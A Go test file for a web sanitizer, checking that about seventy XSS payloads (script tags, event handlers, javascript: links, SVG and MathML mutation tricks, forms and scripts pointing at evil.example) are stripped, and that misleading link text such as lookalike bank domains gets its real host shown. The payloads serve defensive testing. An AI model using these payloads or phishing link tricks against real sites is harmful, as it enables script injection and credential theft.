package web

import (
	"net/url"
	"slices"
	"strings"
	"testing"

	"golang.org/x/net/html"

	"antiphon/internal/testkit"
)

// unsafe says what of some HTML must not be shown, or nothing. It reads it as a browser does: into a tree.
func unsafe(t *testing.T, text string) string {
	t.Helper()
	page, err := html.Parse(strings.NewReader("<body><div>" + text + "</div><u>after</u>"))
	if err != nil {
		return err.Error()
	}
	body := page.LastChild.LastChild
	if after := body.LastChild; after.Data != "u" || after.Parent != body || after.PrevSibling != body.FirstChild {
		return "something that runs on into the page"
	}
	body = body.FirstChild
	allowed := strings.Fields("p br em strong b i del blockquote code pre ul ol li a")
	for n := range body.Descendants() {
		switch n.Type {
		case html.TextNode:
			continue
		case html.ElementNode:
		default:
			return "something that is neither text nor element: " + n.Data
		}
		if !slices.Contains(allowed, n.Data) || n.Namespace != "" {
			return "<" + n.Data + ">"
		}
		for _, a := range n.Attr {
			u, err := url.Parse(a.Val)
			link := n.Data == "a" && a.Key == "href" && err == nil && (u.Scheme == "https" || u.Scheme == "http") && u.Host != ""
			rel := n.Data == "a" && a.Key == "rel" && strings.Contains(a.Val, "nofollow") && strings.Contains(a.Val, "noreferrer")
			if !link && !rel {
				return n.Data + " " + a.Key + "=" + a.Val
			}
		}
	}
	return ""
}

func TestHTMLFromOutside(t *testing.T) {
	t.Parallel()
	testkit.BadInput(t, "D1", func(t *testing.T) {
		for _, in := range []string{
			`<script>alert(1)</script>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `<scr<script>ipt>alert(1)</scr</script>ipt>`, "<script\x00>alert(1)</script>",
			`<img src=x onerror=alert(1)>`, `<img/src=x/onerror=alert(1)//`, `<p onclick="alert(1)">x</p>`, `<b onmouseover=alert(1)>x`, `<a href=x onclick=alert(1)>y</a>`,
			`<a href="javascript:alert(1)">x</a>`, `<a href="java&#115;cript:alert(1)">x</a>`, "<a href=\"java\nscript:alert(1)\">x</a>", "<a href=\"\x01javascript:alert(1)\">x</a>",
			`<a href="JaVaScRiPt:alert(1)">x</a>`, `<a href="data:text/html,<script>alert(1)</script>">x</a>`, `<a href="vbscript:x">x</a>`, `<a href="//evil.example">x</a>`, `<a href="/settings">x</a>`,
			`<a href="blob:https://x/y">x</a>`, `<a href="file:///etc/passwd">x</a>`, `<a href="https:evil">x</a>`, `<a href="https://">x</a>`,
			`<svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`, `<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`, `<svg><animate onbegin=alert(1)>`,
			`<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`, `<svg><style><img src=x onerror=alert(1)></style></svg>`, `<svg><use href="data:image/svg+xml,x#y"/></svg>`,
			`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
			`<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`, `<math href="javascript:alert(1)">x</math>`,
			`<math><annotation-xml encoding="text/html"><style><img src onerror=alert(1)></style></annotation-xml></math>`,
			`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, `<template><img src=x onerror=alert(1)></template>`, `<xmp><p title="</xmp><img src=x onerror=alert(1)>">`,
			`<textarea><p title="</textarea><img src=x onerror=alert(1)>">`, `<title><p title="</title><img src=x onerror=alert(1)>">`, `<select><option><style></option></select><img src=x onerror=alert(1)></style>`,
			`<iframe srcdoc="<script>alert(1)</script>"></iframe>`, `<iframe src="https://evil.example">`, `<object data="x">`, `<embed src="x">`, `<applet>`, `<link rel=stylesheet href=x>`,
			`<style>@import "//evil.example"</style>`, `<p style="position:fixed;inset:0;background:url(//evil.example)">x</p>`, `<base href="//evil.example/">`, `<meta http-equiv=refresh content="0;url=//evil.example">`,
			`<form action="//evil.example"><input name=passphrase><button>Log in</button></form>`, `<input autofocus onfocus=alert(1)>`, `<button formaction="javascript:alert(1)">x</button>`,
			`<video src=x onerror=alert(1)>`, `<audio src=x onerror=alert(1)>`, `<details open ontoggle=alert(1)>`, `<marquee onstart=alert(1)>`, `<dialog open>x</dialog>`,
			`<!--><img src=x onerror=alert(1)>-->`, `<!--- --!><img src=x onerror=alert(1)> -->`, `<![CDATA[<img src=x onerror=alert(1)>]]>`, `<?xml-stylesheet href="javascript:alert(1)"?>`, `<!DOCTYPE html><html><body onload=alert(1)>`,
			`<a href="https://x.example/" target=_self download ping="//evil.example">x</a>`, `<a id=nav name=cookie class="button" href="https://x.example/">x</a>`, `<p id=player class=card data-state=playing aria-hidden=true>x</p>`,
			`<p`, `<a href="https://x.example`, `</p></div></main><h1>Antiphon</h1>`, `<b><i></b></i>`, "\xff\xfe<script>", strings.Repeat("<b>", 5000), strings.Repeat("<blockquote>", 20_000), strings.Repeat("<a href=https://x.example/>", 2000),
			`<x-player onclick=alert(1) is="x">x</x-player>`, `<p/onclick=alert(1)>x`, "<p\tonclick=alert(1)>x", "<p\x0conclick=alert(1)>x", `<a href=https://x.example/ onclick=alert(1) //>x</a>`,
		} {
			clean := string(sanitize(in))
			if what := unsafe(t, clean); what != "" {
				t.Errorf("%.200q lets %s through: %.300q", in, what, clean)
			}
			if again := string(sanitize(clean)); len(clean) < maxHTML && again != clean {
				t.Errorf("%.200q: %.200q becomes %.200q the next time", in, clean, again)
			}
			if len(clean) > 20*maxHTML {
				t.Errorf("%.50q becomes %d bytes", in, len(clean))
			}
		}
		// Letters are not turned round.
		if got := string(sanitize("<p>\u202egnp.exe\u202c \u202dx</p>")); strings.ContainsAny(got, "\u202d\u202e") {
			t.Errorf("%q", got)
		}
		long := string(sanitize("<p>" + strings.Repeat("<b>x", 1<<18)))
		if what := unsafe(t, long); what != "" || len(long) > 2*maxHTML {
			t.Errorf("a megabyte of elements: %s, %d bytes", what, len(long))
		}
	}, func(t *testing.T) {
		for in, want := range map[string]string{
			`<p>One<br>two <em>three</em> <strong>four</strong></p><ul><li>five</li></ul>`: `<p>One<br/>two <em>three</em> <strong>four</strong></p><ul><li>five</li></ul>`,
			`<p>5 &lt; 6 &amp; שלום</p>`:                                                   `<p>5 &lt; 6 &amp; שלום</p>`,
			`<a href="https://b.example/x?y=1&amp;z=2">more</a>`:                           `<a href="https://b.example/x?y=1&amp;z=2" rel="nofollow noreferrer">more</a>`,
		} {
			if got := string(sanitize(in)); got != want {
				t.Errorf("%q is shown as %q", in, got)
			}
		}
	})
}

func TestLinksSayWhereTheyLead(t *testing.T) {
	t.Parallel()
	link := func(href, words string) string { return `<p><a href="` + href + `">` + words + `</a></p>` }
	testkit.BadInput(t, "D7", func(t *testing.T) {
		for _, tc := range []struct{ href, words, host string }{
			{"https://evil.example/", "https://bank.example/", "evil.example"},
			{"https://evil.example/", "bank.example", "evil.example"},
			{"https://evil.example/", "https://ba<b>nk</b>.example/login", "evil.example"},
			{"https://evil.example/", "www.bank.example", "evil.example"},
			{"https://bank.example.evil.example/", "bank.example", "bank.example.evil.example"},
			{"https://bank.example@evil.example/", "bank.example", "evil.example"},
			{"https://evil.example:8443/", "bank.example", "evil.example:8443"},
			{"https://evil.example/bank.example", "bank.example", "evil.example"},
			{"https://evil.example/", "@ada@bank.example", "evil.example"},
			{"https://evil.example/", "evil.example or bank.example", "evil.example"},
			{"https://xn--bnk-8cd.example/", "bаnk.example", "xn--bnk-8cd.example"}, // the а is Cyrillic
			{"https://evil.example/", "BANK.EXAMPLE", "evil.example"},
			{"https://evil.example/", "bank&#46;example", "evil.example"},
			{"https://evil.example/", "\u202eelpmaxe.knab\u202c bank.example", "evil.example"},
		} {
			clean := string(sanitize(link(tc.href, tc.words)))
			if !strings.Contains(clean, " ("+tc.host+")</a>") {
				t.Errorf("%s as %q is shown as %s", tc.href, tc.words, clean)
			}
			if again := string(sanitize(clean)); again != clean {
				t.Errorf("%s becomes %s", clean, again)
			}
		}
		// A link that is not closed, and one in another.
		for _, in := range []string{`<a href="https://evil.example/">bank.example`, `<a href="https://evil.example/">bank.example<a href="https://x.example/">y</a>`} {
			if clean := string(sanitize(in)); !strings.Contains(clean, "bank.example (evil.example)") {
				t.Errorf("%s is shown as %s", in, clean)
			}
		}
	}, func(t *testing.T) {
		for _, tc := range [][2]string{
			{"https://b.example/x", "b.example/x"}, {"https://b.example/x", "https://b.example/x"}, {"https://www.b.example/", "b.example"}, {"https://b.example/", "www.b.example"},
			{"https://b.example/@ada", "@<b>ada</b>"}, {"https://b.example/@ada", "@ada@b.example"}, {"https://b.example/", "more"}, {"https://b.example/", "track 1.2"},
			{"https://b.example:8443/", "b.example:8443"}, {"https://B.example/", "B.example"}, {"https://b.example/", ""},
		} {
			if clean := string(sanitize(link(tc[0], tc[1]))); strings.Contains(clean, "(") {
				t.Errorf("%s as %q is shown as %s", tc[0], tc[1], clean)
			}
		}
	})
}
